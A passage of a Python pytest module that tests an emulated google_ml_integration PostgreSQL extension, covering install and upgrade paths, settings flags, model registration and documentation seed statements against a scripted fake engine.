# mypy: disable-error-code="index,misc,union-attr"
# (rows read back with fetchone() are indexed directly: a None there fails the test anyway)
"""The google_ml_integration extension's SQL, tested straight against PostgreSQL.

What this module guards: the extension's lifecycle, flags, model registry, secrets, validation
errors (with their SQLSTATEs), privileges, and the SQL half of model calls. The tests connect
to PostgreSQL directly (not through the proxy) and use a database of their own, so they neither
depend on nor disturb the rest of the suite. Model calls go to the proxy's own callback endpoint
(proxy/callback.py), run by this module with a scripted handler in place of the engine; the tests
write its address into ``google_ml._engine_endpoint`` themselves, and it records every request
so the tests can check exactly what the SQL side hands to the engine.

The server: ``EXT_TEST_DSN`` when set, else the ``emulator`` fixture's direct DSN.
"""

from __future__ import annotations

import asyncio
import json
import os
import secrets
import threading
import time
from collections.abc import Callable, Coroutine, Iterator
from pathlib import Path
from typing import Any

import psycopg
import pytest
from psycopg import sql

from emulator import extension_build
from proxy.callback import CallbackServer
from tests.support.databases import CYMBAL_TRANSFORMS

DATABASE = "google_ml_ext_sql_test"
TOKEN = secrets.token_hex(8)


# ---------------------------------------------------------------------------
# fixtures
# ---------------------------------------------------------------------------


@pytest.fixture(scope="module")
def pg_dsn(request: pytest.FixtureRequest) -> str:
    """A superuser DSN straight to PostgreSQL (no proxy)."""
    dsn = os.environ.get("EXT_TEST_DSN")
    if dsn:
        return dsn
    emulator = request.getfixturevalue("emulator")
    return str(emulator.direct_dsn)


def _with_dbname(dsn: str, dbname: str) -> str:
    return psycopg.conninfo.make_conninfo(dsn, dbname=dbname)


@pytest.fixture(scope="module")
def db_dsn(pg_dsn: str) -> Iterator[str]:
    """A fresh database of this module's own."""
    with psycopg.connect(pg_dsn, autocommit=True) as admin:
        admin.execute(sql.SQL("DROP DATABASE IF EXISTS {} WITH (FORCE)").format(
            sql.Identifier(DATABASE)))
        admin.execute(sql.SQL("CREATE DATABASE {}").format(sql.Identifier(DATABASE)))
    yield _with_dbname(pg_dsn, DATABASE)
    with psycopg.connect(pg_dsn, autocommit=True) as admin:
        admin.execute(sql.SQL("DROP DATABASE IF EXISTS {} WITH (FORCE)").format(
            sql.Identifier(DATABASE)))
        for role in ("ext_test_user", "NON_SUPER_USER"):
            admin.execute(sql.SQL("DROP ROLE IF EXISTS {}").format(sql.Identifier(role)))


@pytest.fixture
def conn(db_dsn: str) -> Iterator[psycopg.Connection[tuple[Any, ...]]]:
    """An autocommit superuser connection; the extension freshly created."""
    with psycopg.connect(db_dsn, autocommit=True) as connection:
        connection.execute("DROP EXTENSION IF EXISTS google_ml_integration CASCADE")
        connection.execute("CREATE EXTENSION google_ml_integration")
        yield connection


@pytest.fixture(scope="module")
def engine() -> Iterator[FakeEngine]:
    server = FakeEngine()
    server.start()
    yield server
    server.stop()


@pytest.fixture
def calls(conn: psycopg.Connection[tuple[Any, ...]], engine: FakeEngine) -> FakeEngine:
    """The fake engine, registered as this database's engine endpoint."""
    engine.requests.clear()
    engine.handler = default_handler
    register_engine(conn, engine)
    return engine


def register_engine(conn: psycopg.Connection[Any], engine: FakeEngine) -> None:
    """Make the fake engine this database's engine endpoint."""
    conn.execute(
        "INSERT INTO google_ml._engine_endpoint (conninfo) VALUES (%s)",
        (engine.server.conninfo(),))


def sqlstate_of(conn: psycopg.Connection[Any], statement: str,
                params: tuple[Any, ...] | None = None) -> str | None:
    """The SQLSTATE a statement fails with (None if it succeeds)."""
    try:
        with conn.transaction():
            conn.execute(statement, params)
    except psycopg.Error as error:
        return error.sqlstate
    return None


def error_of(conn: psycopg.Connection[Any], statement: str) -> psycopg.Error:
    with pytest.raises(psycopg.Error) as info, conn.transaction():
        conn.execute(statement)
    return info.value


# ---------------------------------------------------------------------------
# a fake engine: the callback side of docs/internals.md, just enough protocol
# ---------------------------------------------------------------------------


Handler = Callable[[dict[str, Any]], Any]


class EngineError(Exception):
    def __init__(self, sqlstate: str, message: str) -> None:
        super().__init__(message)
        self.sqlstate = sqlstate
        self.message = message


def _vector(seed: str, dimension: int) -> list[float]:
    return [((hash((seed, i)) % 1000) / 1000.0) for i in range(dimension)]


def default_handler(request: dict[str, Any]) -> Any:
    """Provider-shaped answers, like the engine's fakes."""
    body = request["body"]
    if request["provider"] == "google" and request["model_type"] == "text_embedding":
        return {"predictions": [{"embeddings": {"values": [0.5, 0.25, 0.125]}}]}
    if request["provider"] == "open_ai":
        return {"data": [{"index": 0, "embedding": [1.0, 2.0]}]}
    if request["provider"] == "google":
        chunk = {"candidates": [{"content": {"parts": [{"text": "SELECT 1"}]}}]}
        if str(request["url"]).endswith(":streamGenerateContent"):
            return [chunk, chunk]
        return chunk
    if request["provider"] == "custom" and request["model_type"] == "text_embedding":
        return [[0.1, 0.2, 0.3]]
    return {"echo": body}


class TrackedCallbackServer(CallbackServer):
    """The proxy's callback endpoint, keeping its open connections so that a test can drop
    them (the engine going away under the backends)."""

    def __init__(self, *args: Any, **kwargs: Any) -> None:
        super().__init__(*args, **kwargs)
        self.connections: set[asyncio.StreamWriter] = set()

    async def _serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.connections.add(writer)
        try:
            await super()._serve(reader, writer)
        finally:
            self.connections.discard(writer)


class FakeEngine:
    """The proxy's own callback endpoint (proxy/callback.py), on an event loop in a thread of its
    own, with a scripted handler where the emulator has its engine. It records every request
    and the (leader) backend pid each call came from."""

    def __init__(self) -> None:
        self.requests: list[dict[str, Any]] = []
        self.caller_pids: list[int] = []
        self.handler: Handler = default_handler
        self.server = TrackedCallbackServer(self._invoke, self._caller,
                                            emulator_address="the test's callback server",
                                            password=TOKEN)
        self._loop = asyncio.new_event_loop()
        self._thread = threading.Thread(target=self._loop.run_forever, daemon=True)

    def _run(self, coro: Coroutine[Any, Any, Any]) -> Any:
        return asyncio.run_coroutine_threadsafe(coro, self._loop).result(timeout=30)

    def start(self) -> None:
        self._thread.start()
        self._run(self.server.start("127.0.0.1"))

    def stop(self) -> None:
        self.drop_connections()
        self._run(self.server.close())
        self._loop.call_soon_threadsafe(self._loop.stop)
        self._thread.join(timeout=30)
        self._loop.close()

    def drop_connections(self) -> None:
        async def drop() -> None:
            for writer in list(self.server.connections):
                writer.close()
        self._run(drop())

    async def _invoke(self, request: dict[str, Any]) -> Any:
        self.requests.append(request)
        return self.handler(request)

    def _caller(self, pid: int) -> bool:
        """Every session counts as one that came through the emulator."""
        self.caller_pids.append(pid)
        return True


# ---------------------------------------------------------------------------
# lifecycle
# ---------------------------------------------------------------------------


def test_extension_version_is_the_default_and_at_least_1_5_3(
        conn: psycopg.Connection[Any]) -> None:
    row = conn.execute(
        "SELECT e.extversion, a.default_version FROM pg_extension e "
        "JOIN pg_available_extensions a ON a.name = e.extname "
        "WHERE e.extname = 'google_ml_integration'").fetchone()
    assert row is not None and row[0] == row[1]
    assert tuple(int(p) for p in row[0].split(".")) >= (1, 5, 3)


def test_create_if_not_exists_on_an_installed_extension_is_a_notice(
        conn: psycopg.Connection[Any]) -> None:
    conn.execute("CREATE EXTENSION IF NOT EXISTS google_ml_integration")


@pytest.mark.parametrize("statement", [
    "CREATE EXTENSION google_ml_integration",
    "CREATE EXTENSION IF NOT EXISTS google_ml_integration",
    "CREATE EXTENSION google_ml_integration VERSION '1.5.3'",
    "CREATE EXTENSION google_ml_integration VERSION '1.5.3' CASCADE",
    """DO $$
       BEGIN
       IF NOT EXISTS (
         SELECT 1 FROM pg_extension WHERE extname = 'google_ml_integration' )
         THEN CREATE EXTENSION google_ml_integration VERSION '1.5.3' CASCADE;
       END IF;
       END
       $$;""",
])
def test_every_create_extension_form_installs_it(
        conn: psycopg.Connection[Any], statement: str) -> None:
    conn.execute("DROP EXTENSION google_ml_integration")
    conn.execute(statement)
    assert conn.execute("SELECT count(*) FROM google_ml.model_info_view").fetchone()[0] > 0


def test_drop_extension_removes_schemas_and_functions(conn: psycopg.Connection[Any]) -> None:
    conn.execute("DROP EXTENSION google_ml_integration")
    assert conn.execute(
        "SELECT count(*) FROM pg_namespace WHERE nspname IN ('google_ml', 'ai')").fetchone() == (0,)
    assert conn.execute("SELECT to_regprocedure('public.embedding(text,text)')").fetchone() == (
        None,)
    conn.execute("CREATE EXTENSION google_ml_integration")


def test_alter_extension_update_is_accepted(conn: psycopg.Connection[Any]) -> None:
    conn.execute("ALTER EXTENSION google_ml_integration UPDATE")


def test_a_1_5_3_database_updates_to_the_default_version_and_keeps_calling(
        conn: psycopg.Connection[Any], calls: FakeEngine) -> None:
    # LangChain's pin: 1.5.3 has the scalar AI functions, not the array forms of 1.5.4.
    conn.execute("DROP EXTENSION google_ml_integration")
    conn.execute("CREATE EXTENSION google_ml_integration VERSION '1.5.3'")
    register_engine(conn, calls)
    assert conn.execute("SELECT to_regprocedure('ai.if(text[],integer,varchar)')").fetchone() == (
        None,)
    assert conn.execute("SELECT to_regprocedure('ai.if(text,varchar)')").fetchone() != (None,)
    before = conn.execute("SELECT google_ml.embedding('text-embedding-005', 'x')").fetchone()
    conn.execute("ALTER EXTENSION google_ml_integration UPDATE")
    (version, default) = conn.execute(
        "SELECT e.extversion, a.default_version FROM pg_extension e JOIN pg_available_extensions a "
        "ON a.name = e.extname WHERE e.extname = 'google_ml_integration'").fetchone()
    assert version == default == extension_build.DEFAULT_VERSION
    assert conn.execute("SELECT to_regprocedure('ai.if(text[],integer,varchar)')").fetchone() != (
        None,)
    assert conn.execute("SELECT google_ml.embedding('text-embedding-005', 'x')").fetchone() == before


# 1.2, as AlloyDB's older work-with-embeddings page installs it ("version 1.2 or later",
# CREATE EXTENSION google_ml_integration VERSION '1.2', GRANT EXECUTE ON FUNCTION embedding):
# embedding() and ml_predict_row for Vertex AI models by name or path; model endpoint
# management (create_model & co., google_ml.embedding/predict_row, secrets, ai.*) is 1.3's.
MODEL_ENDPOINT_MANAGEMENT = [
    "google_ml.create_model(text,text,text,text,text,text,text,text,text,text,text,text)",
    "google_ml.alter_model(text,text,text,text,text,text,text,text,text,text,text,text)",
    "google_ml.drop_model(text)",
    "google_ml.list_model(text)",
    "google_ml.create_sm_secret(text,text)",
    "google_ml.embedding(text,text)",
    "google_ml.predict_row(text,json)",
]


@pytest.mark.parametrize("model_support", ["on", "off"])
def test_version_1_2_calls_vertex_ai_models_by_name_or_path(
        conn: psycopg.Connection[Any], engine: FakeEngine, model_support: str) -> None:
    conn.execute("DROP EXTENSION google_ml_integration")
    conn.execute("CREATE EXTENSION IF NOT EXISTS google_ml_integration VERSION '1.2'")
    engine.requests.clear()
    engine.handler = default_handler
    register_engine(conn, engine)
    conn.execute(sql.SQL("SET google_ml_integration.enable_model_support = {}").format(
        sql.SQL(model_support)))
    conn.execute("GRANT EXECUTE ON FUNCTION embedding TO PUBLIC")  # the page's (unqualified) GRANT
    (vector,) = conn.execute(
        "SELECT embedding('textembedding-gecko@003', 'AlloyDB is a managed database')").fetchone()
    assert vector == [0.5, 0.25, 0.125]
    request = engine.requests[-1]
    assert (request["provider"], request["model_type"]) == ("google", "text_embedding")
    assert request["qualified_name"] == "textembedding-gecko@003"
    assert request["body"] == {"instances": [{"content": "AlloyDB is a managed database"}]}
    (answer,) = conn.execute(
        "SELECT ml_predict_row('projects/p/locations/us-central1/publishers/google/models/"
        "gemini-1.5-pro:generateContent', '{\"contents\": []}')"
        " -> 'candidates' -> 0 -> 'content' -> 'parts' -> 0 ->> 'text'").fetchone()
    assert answer == "SELECT 1"
    assert engine.requests[-1]["body"] == {"contents": []}


def test_version_1_2_has_no_model_endpoint_management(conn: psycopg.Connection[Any]) -> None:
    conn.execute("DROP EXTENSION google_ml_integration")
    conn.execute("CREATE EXTENSION google_ml_integration VERSION '1.2'")
    for signature in MODEL_ENDPOINT_MANAGEMENT:
        assert conn.execute("SELECT to_regprocedure(%s)", (signature,)).fetchone() == (None,), (
            signature)
    assert conn.execute("SELECT to_regnamespace('ai'), to_regclass('google_ml.model_info_view')"
                        ).fetchone() == (None, None)
    assert conn.execute("SELECT count(*) FROM google_ml.models").fetchone() == (0,)
    error = error_of(conn, "CALL google_ml.create_model(model_id => 'm', "
                           "model_provider => 'custom', model_request_url => 'https://x.test')")
    assert error.sqlstate == "42883"
    assert sqlstate_of(conn, "SELECT google_ml.embedding('text-embedding-005', 'x')") == "42883"
    error = error_of(conn, "SELECT ml_predict_row('gemini-1.5-pro:generateContent', '{}')")
    assert error.sqlstate == "42704"
    assert "ALTER EXTENSION google_ml_integration UPDATE" in (error.diag.message_hint or "")


def test_version_1_2_updates_to_1_3_and_to_the_newest(conn: psycopg.Connection[Any],
                                                      calls: FakeEngine) -> None:
    conn.execute("DROP EXTENSION google_ml_integration")
    conn.execute("CREATE EXTENSION google_ml_integration VERSION '1.2'")
    register_engine(conn, calls)
    before = conn.execute("SELECT embedding('text-embedding-005', 'x')").fetchone()
    conn.execute("ALTER EXTENSION google_ml_integration UPDATE TO '1.3'")
    for signature in MODEL_ENDPOINT_MANAGEMENT:
        assert conn.execute("SELECT to_regprocedure(%s) IS NOT NULL", (signature,)).fetchone() == (
            True,), signature
    conn.execute("""CALL google_ml.create_model(model_id => 'echo', model_provider => 'custom',
                    model_request_url => 'https://example.test/predict')""")
    (raw,) = conn.execute("SELECT google_ml.predict_row('echo', '{\"a\": 1}')::text").fetchone()
    assert json.loads(raw) == {"echo": {"a": 1}}
    assert conn.execute("SELECT embedding('text-embedding-005', 'x')").fetchone() == before
    conn.execute("ALTER EXTENSION google_ml_integration UPDATE")
    assert conn.execute("SELECT extversion FROM pg_extension "
                        "WHERE extname = 'google_ml_integration'").fetchone() == (
        extension_build.DEFAULT_VERSION,)
    assert conn.execute("SELECT model_provider::text FROM google_ml.model_info_view "
                        "WHERE model_id = 'echo'").fetchone() == ("custom",)
    assert conn.execute("SELECT google_ml.embedding('text-embedding-005', 'x')").fetchone() == before


def test_an_update_keeps_a_users_model_of_a_later_pre_registered_id(
        conn: psycopg.Connection[Any]) -> None:
    conn.execute("DROP EXTENSION google_ml_integration")
    conn.execute("CREATE EXTENSION google_ml_integration VERSION '1.3'")
    conn.execute("""CALL google_ml.create_model(model_id => 'gemini-2.5-flash-lite',
                    model_provider => 'custom', model_request_url => 'https://example.test/v1')""")
    conn.execute("ALTER EXTENSION google_ml_integration UPDATE")
    assert conn.execute("SELECT model_provider::text, model_request_url FROM "
                        "google_ml.model_info_view WHERE model_id = 'gemini-2.5-flash-lite'"
                        ).fetchone() == ("custom", "https://example.test/v1")


# What a version brings, by AlloyDB's table (docs/extension.md): an object and the first
# version that has it.
FIRST_VERSION_OF = [
    ("google_ml.create_model(text,text,text,text,text,text,text,text,text,text,text,text)", "1.3"),
    ("public.embedding(text,text)", "1.2"),
    ("public.ml_predict_row(text,json)", "1.2"),
    ("google_ml.embedding(text,text)", "1.3"),
    ("google_ml.predict_row(text,json)", "1.3"),
    ("ai.embedding(text,text)", "1.3"),
    ("ai.if(text,varchar)", "1.5.2"),
    ("ai.text_embedding(text,text)", "1.5.2"),
    ("ai.forecast(text,text,text,text,text,integer,double precision)", "1.4.5"),
    ("ai.if(text[],integer,varchar)", "1.5.4"),
    ("ai.initialize_embeddings(text,text,text,text,integer,text)", "1.5.6"),
    ("ai.summarize(text,varchar)", "1.5.7"),
]


@pytest.mark.parametrize("version", extension_build.VERSIONS)
def test_each_version_has_what_alloydb_put_in_it(conn: psycopg.Connection[Any],
                                                 version: str) -> None:
    conn.execute("DROP EXTENSION google_ml_integration")
    conn.execute(sql.SQL("CREATE EXTENSION google_ml_integration VERSION {}").format(
        sql.Literal(version)))
    for signature, first in FIRST_VERSION_OF:
        (found,) = conn.execute("SELECT to_regprocedure(%s) IS NOT NULL", (signature,)).fetchone()
        assert found == (extension_build.version_key(version)
                         >= extension_build.version_key(first)), (signature, version)
    key = extension_build.version_key(version)
    if key < (1, 3):  # no model endpoint management, so no view and no pre-registered models
        assert conn.execute("SELECT to_regclass('google_ml.model_info_view')").fetchone() == (None,)
        assert conn.execute("SELECT count(*) FROM google_ml.models").fetchone() == (0,)
        return
    columns = [row[0] for row in conn.execute(
        "SELECT attname FROM pg_attribute WHERE attrelid = 'google_ml.model_info_view'::regclass "
        "AND attnum > 0 ORDER BY attnum")]
    assert ("model_availability" in columns) == (
        extension_build.version_key(version) >= (1, 5, 3))
    preregistered = {row[0] for row in conn.execute("SELECT model_id FROM google_ml.model_info_view")}
    assert "text-embedding-005" in preregistered
    assert ("gemini-1.5-pro:generateContent" in preregistered) == (key >= (1, 4, 2))
    assert ("gemini-2.5-flash-lite" in preregistered) == (key >= (1, 5, 2))


def _catalog(conn: psycopg.Connection[Any]) -> dict[str, str]:
    """The extension's objects as text: functions, views, tables, privileges."""
    rows = conn.execute(
        "SELECT 'f ' || p.oid::regprocedure::text, "
        "       CASE WHEN p.prokind = 'a' THEN 'aggregate' ELSE pg_get_functiondef(p.oid) END "
        "       || coalesce(p.proacl::text, '') "
        "  FROM pg_proc p JOIN pg_depend d ON d.objid = p.oid AND d.classid = 'pg_proc'::regclass "
        " WHERE d.refobjid = (SELECT oid FROM pg_extension WHERE extname = 'google_ml_integration') "
        "UNION ALL "
        "SELECT 'r ' || c.oid::regclass::text, "
        "       CASE WHEN c.relkind = 'v' THEN pg_get_viewdef(c.oid) ELSE '' END "
        "       || coalesce(c.relacl::text, '') || c.relrowsecurity || (SELECT string_agg("
        "           attname || ' ' || format_type(atttypid, atttypmod) || attnotnull, ', ' "
        "           ORDER BY attnum) FROM pg_attribute WHERE attrelid = c.oid AND attnum > 0 "
        "           AND NOT attisdropped) "
        "  FROM pg_class c JOIN pg_namespace n ON n.oid = c.relnamespace "
        " WHERE n.nspname IN ('google_ml', 'ai') "
        "UNION ALL "
        "SELECT 'models', string_agg(id || ' ' || coalesce(request_url, ''), ', ' ORDER BY id) "
        "  FROM google_ml.models").fetchall()
    return dict(rows)


@pytest.mark.parametrize("version", extension_build.VERSIONS[:-1])
def test_updating_from_each_version_gives_what_a_fresh_install_has(
        conn: psycopg.Connection[Any], version: str) -> None:
    fresh = _catalog(conn)
    conn.execute("DROP EXTENSION google_ml_integration")
    conn.execute(sql.SQL("CREATE EXTENSION google_ml_integration VERSION {}").format(
        sql.Literal(version)))
    conn.execute("ALTER EXTENSION google_ml_integration UPDATE")
    updated = _catalog(conn)
    assert sorted(set(fresh) ^ set(updated)) == []
    assert [k for k in fresh if fresh[k] != updated[k]] == []


@pytest.mark.parametrize("version", extension_build.VERSIONS)
def test_renewing_each_version_in_place_gives_what_a_fresh_install_has(
        conn: psycopg.Connection[Any], version: str) -> None:
    """The renewal of a database that another build made (emulator/extension_renewal.py): each
    version's refresh script runs, replaces an older body, drops a function the build lacks,
    and leaves the catalog a fresh install of that version has."""
    from emulator.extension_files import renewables
    from emulator.extension_renewal import inspect, renew

    (extension,) = [e for e in renewables() if e.name == "google_ml_integration"]

    # Renewing writes two scripts into the server's extension directory for a moment.
    (sharedir,) = conn.execute("SELECT setting FROM pg_config WHERE name = 'SHAREDIR'").fetchone()
    extension_dir = Path(sharedir) / "extension"
    if not os.access(extension_dir, os.W_OK):
        pytest.skip(f"{extension_dir} is not writable here")

    conn.execute("DROP EXTENSION google_ml_integration")
    conn.execute(sql.SQL("CREATE EXTENSION google_ml_integration VERSION {}").format(
        sql.Literal(version)))
    fresh = _catalog(conn)
    found = inspect(conn, extension, DATABASE)
    assert found is not None and found.current()
    # What an older build left: another body, an extra member function, another fingerprint.
    conn.execute("CREATE OR REPLACE FUNCTION google_ml._statement_key() RETURNS text "
                 "LANGUAGE sql AS $$ SELECT 'older build'::text $$")
    conn.execute("CREATE FUNCTION google_ml._gone_in_this_build() RETURNS int LANGUAGE sql "
                 "AS $$ SELECT 1 $$")
    conn.execute("ALTER EXTENSION google_ml_integration ADD FUNCTION google_ml._gone_in_this_build()")
    conn.execute(f"CREATE OR REPLACE FUNCTION {extension_build.FINGERPRINT_FUNCTION}() RETURNS text "
                 "LANGUAGE sql AS $$ SELECT 'code=0 schema="
                 + extension_build.version_parts(version).fingerprint().split("schema=")[1]
                 + "'::text $$")
    stale = inspect(conn, extension, DATABASE)
    assert stale is not None and not stale.current() and stale.why_not_renewable() is None
    assert renew(conn, stale, extension_dir) is None
    assert _catalog(conn) == fresh
    assert conn.execute("SELECT extversion FROM pg_extension "
                        "WHERE extname = 'google_ml_integration'").fetchone() == (version,)
    conn.execute("DROP EXTENSION google_ml_integration")
    conn.execute("CREATE EXTENSION google_ml_integration")


def test_user_models_are_marked_for_pg_dump(conn: psycopg.Connection[Any]) -> None:
    config = conn.execute(
        "SELECT extconfig::regclass[]::text[], extcondition FROM pg_extension "
        "WHERE extname = 'google_ml_integration'").fetchone()
    conditions = dict(zip(config[0], config[1], strict=True))
    assert set(conditions) == {"google_ml.models", "google_ml.secrets"}
    assert "is_preregistered" in conditions["google_ml.models"]


# ---------------------------------------------------------------------------
# flags
# ---------------------------------------------------------------------------


def test_flag_defaults(conn: psycopg.Connection[Any]) -> None:
    rows = dict(conn.execute("SELECT name, setting FROM google_ml._settings").fetchall())
    assert rows == {
        "google_ml_integration.allow_http_endpoints": "off",
        "google_ml_integration.default_llm_model": "gemini-2.5-flash-lite",
        "google_ml_integration.enable_ai_function_acceleration": "off",
        "google_ml_integration.enable_ai_query_engine": "off",
        "google_ml_integration.enable_cost_optimized_ai_functions": "off",
        "google_ml_integration.enable_faster_embedding_generation": "off",
        "google_ml_integration.enable_forecasting": "off",
        "google_ml_integration.enable_model_support": "on",
        "google_ml_integration.enable_preview_ai_functions": "off",
        "google_ml_integration.proxy_models_enable_accuracy_check": "off",
        "google_ml_integration.proxy_models_enable_llm_fallback": "on",
        "google_ml_integration.runtime_accuracy_check": "on",
    }


def test_default_llm_model_is_a_string_setting(conn: psycopg.Connection[Any]) -> None:
    conn.execute("SET google_ml_integration.default_llm_model = 'gemini-2.5-flash'")
    row = conn.execute(
        "SELECT setting, vartype, boot_val FROM google_ml.pg_settings_with_flags "
        "WHERE name = 'google_ml_integration.default_llm_model'").fetchone()
    assert row == ("gemini-2.5-flash", "string", "gemini-2.5-flash-lite")
    assert conn.execute("SELECT google_ml._ai_default_model()").fetchone() == ("gemini-2.5-flash",)
    conn.execute("RESET google_ml_integration.default_llm_model")
    assert conn.execute("SELECT google_ml._ai_default_model()").fetchone() == (
        "gemini-2.5-flash-lite",)


def test_flag_follows_the_session_setting(conn: psycopg.Connection[Any]) -> None:
    conn.execute("SET google_ml_integration.enable_ai_query_engine = 'true'")
    conn.execute("SET google_ml_integration.enable_model_support = off")
    assert conn.execute(
        "SELECT google_ml._flag('enable_ai_query_engine'), "
        "google_ml._flag('enable_model_support')").fetchone() == (True, False)
    row = conn.execute(
        "SELECT setting, source FROM google_ml.pg_settings_with_flags "
        "WHERE name = 'google_ml_integration.enable_model_support'").fetchone()
    assert row == ("off", "session")


def test_settings_views_have_the_columns_of_pg_settings(conn: psycopg.Connection[Any]) -> None:
    def columns(relation: str) -> list[tuple[str, str]]:
        return conn.execute(
            "SELECT attname, format_type(atttypid, atttypmod) FROM pg_attribute "
            "WHERE attrelid = %s::regclass AND attnum > 0 ORDER BY attnum",
            (relation,)).fetchall()
    assert columns("google_ml._settings") == columns("pg_catalog.pg_settings")
    assert columns("google_ml.pg_settings_with_flags") == columns("pg_catalog.pg_settings")


def test_pg_settings_with_flags_adds_only_the_flags(conn: psycopg.Connection[Any]) -> None:
    total, flags = conn.execute(
        "SELECT count(*), count(*) FILTER (WHERE name LIKE 'google_ml_integration.%') "
        "FROM google_ml.pg_settings_with_flags").fetchone()
    assert flags == 12
    assert total == conn.execute("SELECT count(*) FROM pg_settings").fetchone()[0] + 12


# ---------------------------------------------------------------------------
# the seed page's management statements, verbatim
# ---------------------------------------------------------------------------

SEED_SECRET = """
CALL
  google_ml.create_sm_secret(
    secret_id => 'SECRET_ID',
    secret_path => 'projects/PROJECT_ID/secrets/SECRET_MANAGER_SECRET_ID/versions/VERSION_NUMBER');
"""

SEED_HEADER_FN = """
  CREATE OR REPLACE FUNCTION HEADER_GEN_FUNCTION(
    model_id VARCHAR(100),
    input_text TEXT
  )
  RETURNS JSON
  LANGUAGE plpgsql
  AS $$
  #variable_conflict use_variable
  DECLARE
    api_key VARCHAR(255) := 'API_KEY';
    header_json JSON;
  BEGIN
    header_json := json_build_object(
      'Content-Type', 'application/json',
      'Authorization', 'Bearer ' || api_key
    );
    RETURN header_json;
  END;
  $$;
"""

SEED_CYMBAL = CYMBAL_TRANSFORMS

SEED_ANTHROPIC_SAMPLE_HEADER_FN = """
        CREATE OR REPLACE FUNCTION anthropic_sample_header_gen_fn(model_id VARCHAR(100), request_body JSON)
        RETURNS JSON
        LANGUAGE plpgsql
        AS $$
        #variable_conflict use_variable
        BEGIN
              RETURN json_build_object('x-api-key', 'ANTHROPIC_API_KEY', 'anthropic-version', 'ANTHROPIC_VERSION')::JSON;
        END;
        $$;
"""

# Each model registration of the seed, in order; each registers model_id 'MODEL_ID' (or a
# Vertex AI id), so the test drops it before the next one.
SEED_MODELS = [
    """
      CALL
        google_ml.create_model(
          model_id => 'text-embedding-005',
          model_request_url => 'publishers/google/models/text-embedding-005',
          model_provider => 'google',
          model_qualified_name => 'text-embedding-005',
          model_type => 'text_embedding',
          model_auth_type => 'alloydb_service_agent_iam');
    """,
    # The seed omits the comma after model_auth_type here (a syntax error, on AlloyDB as here:
    # tests/docs/test_seed_page.py); the extension's part is to accept the corrected call.
    """
      CALL
        google_ml.create_model(
          model_id => 'text-multilingual-embedding-002',
          model_request_url => 'publishers/google/models/text-multilingual-embedding-002',
          model_provider => 'google',
          model_qualified_name => 'text-multilingual-embedding-002',
          model_type => 'text_embedding',
          model_auth_type => 'alloydb_service_agent_iam',
          model_in_transform_fn => 'google_ml.vertexai_text_embedding_input_transform',
          model_out_transform_fn => 'google_ml.vertexai_text_embedding_output_transform');
    """,
    """
    CALL
      google_ml.create_model(
        model_id => 'MODEL_ID',
        model_provider => 'open_ai',
        model_type => 'text_embedding',
        model_qualified_name => 'text-embedding-ada-002',
        model_auth_type => 'secret_manager',
        model_auth_id => 'SECRET_ID');
    """,
    """
    CALL
      google_ml.create_model(
        model_id => 'MODEL_ID',
        model_request_url => 'REQUEST_URL',
        model_provider => 'custom',
        model_type => 'text_embedding',
        model_auth_type => 'secret_manager',
        model_auth_id => 'SECRET_ID',
        model_qualified_name => 'MODEL_QUALIFIED_NAME',
        model_in_transform_fn => 'cymbal_text_input_transform',
        model_out_transform_fn => 'cymbal_text_output_transform');
    """,
    """
    CALL
      google_ml.create_model(
        model_id => 'MODEL_ID',
        model_provider => 'hugging_face',
        model_request_url => 'REQUEST_URL',
        model_qualified_name => 'MODEL_QUALIFIED_NAME',
        model_auth_type => 'secret_manager',
        model_auth_id => 'SECRET_ID');
    """,
    """
      CALL
        google_ml.create_model(
          model_id => 'MODEL_ID',
          model_provider => 'anthropic',
          model_request_url => 'REQUEST_URL',
          model_auth_type => 'secret_manager',
          model_auth_id => 'SECRET_ID',
          generate_headers_fn => 'google_ml.anthropic_claude_header_gen_fn');
    """,
    """
      CALL
        google_ml.create_model(
          model_id => 'MODEL_ID',
          model_provider => 'anthropic',
          model_request_url => 'REQUEST_URL',
          generate_headers_fn => 'google_ml.anthropic_claude_header_gen_fn');
    """,
]


def test_seed_management_statements_run(conn: psycopg.Connection[Any]) -> None:
    conn.execute("DROP ROLE IF EXISTS \"NON_SUPER_USER\"")
    conn.execute("CREATE ROLE \"NON_SUPER_USER\"")
    conn.execute(
        "GRANT SELECT, INSERT, UPDATE, DELETE ON ALL TABLES IN SCHEMA google_ml TO "
        "\"NON_SUPER_USER\";")
    conn.execute(SEED_SECRET)
    conn.execute(SEED_HEADER_FN)
    conn.execute(SEED_CYMBAL)
    conn.execute(SEED_ANTHROPIC_SAMPLE_HEADER_FN)
    for statement in SEED_MODELS:
        conn.execute(statement)
        model_id = conn.execute(
            "SELECT id FROM google_ml.models WHERE NOT is_preregistered").fetchone()[0]
        conn.execute("CALL google_ml.drop_model(%s)", (model_id,))
    for path in ("project-id", "PROJECT_ID"):
        conn.execute("CALL google_ml.drop_sm_secret('SECRET_ID')")
        conn.execute(SEED_SECRET.replace("PROJECT_ID", path))
    # The seed's own sample header function is a valid generate_headers_fn.
    conn.execute("CALL google_ml.create_model(model_id => 'h', model_request_url => "
                 "'https://example.com', generate_headers_fn => 'HEADER_GEN_FUNCTION')")
    conn.execute("CALL google_ml.create_model(model_id => 'a', model_provider => 'anthropic', "
                 "generate_headers_fn => 'anthropic_sample_header_gen_fn')")


def test_seed_text_embedding_005_replaces_the_preregistered_row(
        conn: psycopg.Connection[Any]) -> None:
    conn.execute(SEED_MODELS[0])
    row = conn.execute(
        "SELECT request_url, is_preregistered, input_transform_fn FROM google_ml.models "
        "WHERE id = 'text-embedding-005'").fetchone()
    assert row == ("publishers/google/models/text-embedding-005", False,
                   "google_ml.vertexai_text_embedding_input_transform")


def test_builtin_support_fills_openai_url_and_transforms(conn: psycopg.Connection[Any]) -> None:
    conn.execute(SEED_SECRET)
    conn.execute(SEED_MODELS[2])
    row = conn.execute(
        "SELECT model_request_url, input_transform_fn, output_transform_fn, model_auth_type "
        "FROM google_ml.model_info_view WHERE model_id = 'MODEL_ID'").fetchone()
    assert row == ("https://api.openai.com/v1/embeddings",
                   "google_ml.openai_text_embedding_input_transform",
                   "google_ml.openai_text_embedding_output_transform", "secret_manager")


def test_builtin_support_fills_vertex_url_from_qualified_name(
        conn: psycopg.Connection[Any]) -> None:
    conn.execute("CALL google_ml.create_model(model_id => 'v', model_provider => 'google', "
                 "model_type => 'text_embedding', model_qualified_name => 'text-embedding-004')")
    row = conn.execute(
        "SELECT model_request_url, input_transform_fn, model_auth_type "
        "FROM google_ml.model_info_view WHERE model_id = 'v'").fetchone()
